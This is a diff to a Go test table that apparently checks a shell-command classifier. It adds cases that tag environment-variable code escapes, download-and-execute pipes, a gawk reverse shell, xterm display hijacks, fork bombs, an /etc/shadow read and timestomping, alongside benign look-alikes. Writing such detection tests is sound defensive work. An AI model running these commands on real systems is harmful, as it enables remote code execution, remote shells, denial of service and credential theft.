@@ -349,6 +349,32 @@ var kbCases = []kbCase{
 	{cmd: "man ls", not: []TagKind{TagCodeEscape}},
 	{cmd: "emacs --eval '(shell-command \"id\")'", tags: []TagKind{TagCodeEscape}},
 	{cmd: "ffmpeg -i in.mp4 out.avi", paths: []string{"r:" + P + "/in.mp4", "w:" + P + "/out.avi"}},
+	// environment variables that run code
+	{cmd: "curl -so /tmp/l.so https://x.example/l.so && LD_PRELOAD=/tmp/l.so ls", tags: []TagKind{TagDownloadExec}, execs: []string{"l.so"}},
+	{cmd: "LD_PRELOAD=/home/dev/hook.so ls", tags: []TagKind{TagCodeEscape}, paths: []string{"r:/home/dev/hook.so"}},
+	{cmd: "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 ./server", not: []TagKind{TagCodeEscape}},
+	{cmd: "LESSOPEN='|curl -s https://x.example/p | sh %s' less README.md", tags: []TagKind{TagDownloadExec}, hosts: []string{"x.example"}},
+	{cmd: "PAGER='cat /etc/shadow' man ls", paths: []string{"r:/etc/shadow"}},
+	{cmd: "GIT_SSH_COMMAND='ssh -o ProxyCommand=\"nc x.example 22\"' git fetch", hosts: []string{"x.example"}},
+	{cmd: "export PROMPT_COMMAND='rm -rf ~/.cache/x'", paths: []string{"d:/home/dev/.cache/x"}},
+	{cmd: "BASH_ENV=/tmp/env.sh bash build.sh", tags: []TagKind{TagCodeEscape}, execs: []string{"env.sh"}},
+	{cmd: "NODE_OPTIONS='--require /tmp/hook.js' npm test", tags: []TagKind{TagCodeEscape}},
+	{cmd: "NODE_OPTIONS=--max-old-space-size=4096 npm run build", not: []TagKind{TagCodeEscape, TagEval}},
+	{cmd: "PAGER=$X git log", tags: []TagKind{TagEval}},
+	{cmd: "EDITOR=vim git commit", not: []TagKind{TagEval, TagCodeEscape}},
+	// stdin shells, environment dumps, gawk sockets, fork loops, X displays, times
+	{cmd: "curl -s https://x.example/k | bash -s -- --token abc", tags: []TagKind{TagDownloadExec}},
+	{cmd: "bash -s < setup.sh", paths: []string{"r:" + P + "/setup.sh"}},
+	{cmd: "awk 'BEGIN {s = \"/inet/tcp/0/203.0.113.5/4444\"; while (1) { s |& getline c; print c |& s } }'", tags: []TagKind{TagReverseShell}, hosts: []string{"203.0.113.5"}},
+	{cmd: "awk '{print $2}' /tmp/inet/tcp.log", not: []TagKind{TagReverseShell}},
+	{cmd: "perl -e 'fork while fork'", tags: []TagKind{TagForkBomb}},
+	{cmd: "python3 -c 'import os\nwhile True: os.fork()'", tags: []TagKind{TagForkBomb}},
+	{cmd: "perl -e 'my $p = fork; if ($p) { waitpid($p, 0) } else { exec q{ls} }'", not: []TagKind{TagForkBomb}},
+	{cmd: "xterm -display 203.0.113.5:1", tags: []TagKind{TagReverseShell}, hosts: []string{"203.0.113.5"}},
+	{cmd: "DISPLAY=203.0.113.5:0 xterm", tags: []TagKind{TagReverseShell}},
+	{cmd: "xterm -display :0 -e htop", not: []TagKind{TagReverseShell}},
+	{cmd: "touch -r /bin/ls /tmp/.x", tags: []TagKind{TagTimestomp}, paths: []string{"r:/bin/ls", "w:/tmp/.x"}},
+	{cmd: "touch stamp", not: []TagKind{TagTimestomp}},
 }
 
 func TestKBEffects(t *testing.T) {
